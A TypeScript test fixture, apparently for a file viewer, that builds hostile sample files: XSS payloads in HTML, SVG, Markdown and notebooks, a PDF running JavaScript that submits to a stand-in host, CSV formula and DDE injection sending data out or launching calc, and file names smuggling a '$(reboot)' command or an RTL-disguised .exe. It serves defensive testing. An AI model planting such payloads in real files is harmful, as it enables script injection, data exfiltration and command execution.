import { deflateSync } from "node:zlib";
import type { Locator, Page } from "playwright-core";

/** A file of a workspace that somebody filled with ill will. Every script in one would leave its mark: it sets pwned on the page and its title. */
export interface Hostile {
  name: string;
  content: string | Buffer;
  /** What is there once the viewer has opened it, in the way that it chooses by itself. */
  shown: (page: Page) => Locator;
}

const mark = "try{top.pwned=1}catch(e){};window.pwned=1;document.title='pwned'";
const elsewhere = "https://elsewhere.example";

/** A PDF of one page whose catalogue and page run JavaScript when they are opened. */
function pdf(): Buffer {
  const page = deflateSync(Buffer.from("BT /F1 18 Tf 20 100 Td (A page with a script) Tj ET"));
  const js = "app.alert(1); top.pwned=1; this.submitForm('" + elsewhere + "')";
  const objects: (string | Buffer)[] = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (${js.replace(/[()\\]/g, "\\$&")}) >> >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /AA << /O << /S /URI /URI (${elsewhere}) >> >> /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>`,
    Buffer.concat([Buffer.from(`<< /Length ${page.length} /Filter /FlateDecode >>\nstream\n`), page, Buffer.from("\nendstream")]),
  ];
  const parts = [Buffer.from("%PDF-1.4\n")];
  const at: number[] = [];
  let size = parts[0]?.length ?? 0;
  const add = (b: Buffer<ArrayBuffer>) => { parts.push(b); size += b.length; };
  objects.forEach((o, i) => { at.push(size); add(Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`), Buffer.isBuffer(o) ? o : Buffer.from(o), Buffer.from("\nendobj\n")])); });
  const table = size;
  add(Buffer.from(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${at.map((n) => `${String(n).padStart(10, "0")} 00000 n \n`).join("")}trailer << /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${table}\n%%EOF\n`));
  return Buffer.concat(parts);
}

const html = `<!doctype html><script>${mark}</script><img src=x onerror="${mark}"><iframe src="javascript:${mark}"></iframe><body onload="${mark}">hostile`;
const svg = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" onload="${mark}"><script>${mark}</script><image href="${elsewhere}/x.png"/><foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml" onload="${mark}"><iframe src="${elsewhere}"/></body></foreignObject><rect width="9" height="9"/></svg>`;
const markdown = `# Hostile

<script>${mark}</script> <img src=x onerror="${mark}"> <iframe src="javascript:${mark}"></iframe>

[script](javascript:${mark}) [data](data:text/html,<script>${mark}</script>) [encoded](&#106;avascript:${mark}) <javascript:${mark}> [named]

![picture](${elsewhere}/z.png) ![script](javascript:${mark})

[named]: vbscript:${mark}
`;
const notebook = JSON.stringify({
  nbformat: 4, nbformat_minor: 5, metadata: {}, cells: [
    { cell_type: "markdown", source: markdown },
    { cell_type: "code", source: "1", outputs: [
      { output_type: "display_data", data: { "text/html": `<script>${mark}</script><b onclick="${mark}">bold</b>` } },
      { output_type: "display_data", data: { "application/javascript": mark } },
      { output_type: "display_data", data: { "image/svg+xml": svg } },
      { output_type: "display_data", data: { "image/png": `x" onerror="${mark}` } },
      { output_type: "stream", name: "stdout", text: "\u001b[31mred\u001b[0m <script>" },
    ] },
  ],
});

const text = (page: Page, said: string | RegExp) => page.locator(".cm-content").getByText(said).first();
const oneLine = (page: Page) => page.getByText("1 line", { exact: true });
// A heading or a table of its own, that no file beside it has.
const panel = (page: Page) => page.getByRole("tabpanel", { name: "Viewer" });

/** Names that would break out of a page, a shell or a line, or look like others. Each file has one line. */
export const names = ['a "quoted" \'name\'.txt', "rtl \u202egpj.exe", "two\nlines.txt", `<img src=x onerror="${mark}">.md`, "`$(reboot)`.sh", "  spaces  ", "%2e%2e%2fup.txt", "#?&=.txt"];

/** How the page shows such a name: what can't be seen is written out. */
export function seen(name: string): string { return name.replace("\u202e", "\u27e8U+202E\u27e9").replace("\n", "\\n"); }

export const files: Hostile[] = [
  { name: "evil.html", content: html, shown: (p) => text(p, "onerror=") },
  { name: "refresh.html", content: `<meta http-equiv="refresh" content="0;url=${elsewhere}/"><base href="${elsewhere}/">`, shown: (p) => text(p, "http-equiv") },
  { name: "evil.xhtml", content: `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${mark}</script></html>`, shown: (p) => text(p, "xmlns=") },
  { name: "evil.svg", content: svg, shown: (p) => p.getByRole("img", { name: "evil.svg" }) },
  { name: "page.pdf", content: html, shown: (p) => text(p, "onerror=") },
  { name: "script.pdf", content: pdf(), shown: (p) => p.getByRole("img", { name: "Page 1 of script.pdf: A page with a script" }) },
  { name: "picture.png", content: html, shown: (p) => text(p, "onerror=") },
  { name: "formulas.csv", content: `name,what\n=1+1,"=HYPERLINK(""${elsewhere}/?""&A1,""click"")"\n"=cmd|' /C calc'!A0",@SUM(A1)\n`, shown: (p) => p.getByRole("cell", { name: "=1+1" }) },
  { name: "evil.ipynb", content: notebook, shown: (p) => panel(p).getByText("HTML output, as text").first() },
  { name: "evil.md", content: markdown, shown: (p) => panel(p).getByRole("heading", { name: "Hostile" }) },
  { name: "one-line.json", content: `[${"1234567,".repeat(700_000)}0]`, shown: (p) => p.getByText("this is its beginning") },
  { name: "big.log", content: Buffer.alloc(50 * 1024 * 1024, "fifty megabytes of this line\n"), shown: (p) => p.getByText("this is its beginning") },
  ...names.map((name): Hostile => ({ name, content: "x\n", shown: oneLine })),
];
